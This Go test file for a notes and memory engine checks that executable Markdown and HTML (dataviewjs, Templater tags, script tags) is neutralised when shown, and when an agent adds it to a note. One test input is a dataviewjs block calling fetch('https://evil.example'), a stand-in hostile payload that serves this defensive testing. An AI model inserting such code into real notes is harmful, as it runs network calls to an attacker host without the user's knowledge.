package engine_test

import (
	"strings"
	"testing"

	"pgregory.net/rapid"

	"emberd/internal/notegen"
	"emberd/op"
	"emberd/vault/lex"
	"emberd/vault/neutralize"
)

// The lists, the inbox and reports of cleanups show texts by package notegen, and notes of
// memories by package neutralize. What the one takes for more than text is text by the other, too.
func TestListsRunNothingThatNotesDoNot(t *testing.T) {
	t.Parallel()
	piece := rapid.OneOf(rapid.SampledFrom([]string{
		"```dataviewjs\n", "~~~ js-engine\n", "run-python", "`", "``", "$= ", "= this.x", "INPUT[", "BUTTON[x]", "VIEW[", "button-x", "dice: 1d6", "jsx:<X/>", "<%", "%>", "%%", "%",
		"<script>", "<b", ">", "</i>", "<!-- ", "<?", "<![CDATA[", "emberd:x -->", "![", "![[", "](", "](http://x.y/z)", "]]", "[[a|", "$", "$$", "\\", `\style{x}`, `\href{x}{y}`, "---", "\n", " ", "a", "é", "\u202e", "\ufeff",
	}), rapid.String())
	rapid.Check(t, func(t *rapid.T) {
		text := strings.ToValidUTF8(strings.Join(rapid.SliceOfN(piece, 0, 12).Draw(t, "text"), ""), "?")
		longest := rapid.IntRange(1, 200).Draw(t, "longest")
		for _, shown := range []string{notegen.Inline(text, longest), notegen.Title(text, longest)} {
			for _, line := range []string{shown, "- " + shown, "> - " + shown, "a **" + shown + "** · x"} {
				if got := neutralize.Body(line); got != lex.Bare(line) {
					t.Fatalf("%q is shown as %q, which a note would have as %q", text, line, got)
				}
			}
		}
	})
}

// Of a note that a human has put code into, an agent edits another sentence: the human's code
// stays to the byte, and what the agent adds of the same kind is text.
func TestAnAgentsEditLeavesAHumansCodeAsItIs(t *testing.T) {
	t.Parallel()
	d := shelf(t, nil)
	m := promoteByID(t, d.Engine, save(t, d.Engine, "The boiler drips").ID).Memory
	const mine = "```dataviewjs\ndv.list(dv.pages('#boiler'))\n```\n\n" +
		"<%* tR += tp.date.now() %>\n\n![plan](https://example.org/plan.png)\n\n<details>\n<summary>Bill</summary>\n40\n</details>\n\nSeen `$= dv.current().file.name` %% by Ann %%"
	d.edit(m.PromotedTo, strings.Replace(d.note(t, m.PromotedTo), "The boiler drips", "The boiler drips\n\n"+mine, 1))
	text := look(t, d.Engine, m.ID).Content
	if text != "The boiler drips\n\n"+mine {
		t.Fatalf("the memory says %q", text)
	}
	for _, say := range []string{"drips at the valve", "drips no more"} {
		d.rest(t, d.Engine)
		text = strings.Replace(look(t, d.Engine, m.ID).Content, "drips", say, 1)
		asked(t, d.Engine, anAgent, op.Edit, &op.EditRequest{ID: string(m.ID), Content: &text})
		wantNote(t, d.house, m.PromotedTo, "The boiler "+say, mine)
	}
	const theirs = "```dataviewjs\nfetch('https://evil.example')\n```\n\n<script>x</script> <% y %>"
	text += "\n\n" + theirs
	d.rest(t, d.Engine)
	asked(t, d.Engine, anAgent, op.Edit, &op.EditRequest{ID: string(m.ID), Content: &text})
	wantNote(t, d.house, m.PromotedTo, mine+"\n\n```text dataviewjs\nfetch('https://evil.example')\n```\n\n\\<script>x\\</script> <\\% y %>", "!"+theirs)
	d.batch([]string{m.PromotedTo}, nil)
	d.settle()
	if got := look(t, d.Engine, m.ID).Content; got != text {
		t.Errorf("the memory has become %q", got)
	}
}
